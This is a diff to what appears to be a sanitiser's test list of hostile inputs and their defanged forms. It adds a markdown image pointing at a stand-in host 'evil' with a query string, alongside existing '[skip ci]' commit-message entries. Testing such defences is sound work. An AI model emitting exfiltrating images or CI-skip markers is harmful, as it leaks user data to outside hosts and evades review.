@@ -68,6 +68,8 @@ HOSTILE = [
     # skipping continuous integration from a commit message
     ("chore [skip ci]", "chore \uff3bskip ci]"),
     ("[CI SKIP]", "\uff3bCI SKIP]"),
+    # images, which are fetched when somebody looks
+    ("![x](https://evil/?q=1) wow!", "\uff01[x](https://evil/?q=1) wow!"),
     # ordinary text
     ("caf&eacute; &amp; &lt;b&gt; &nbsp;", "caf&eacute; &amp; &lt;b&gt; &nbsp;"),
     ("# Title\n\n- [ ] a\tb\n> *q* `code`", "# Title\n\n- [ ] a\tb\n> *q* `code`"),
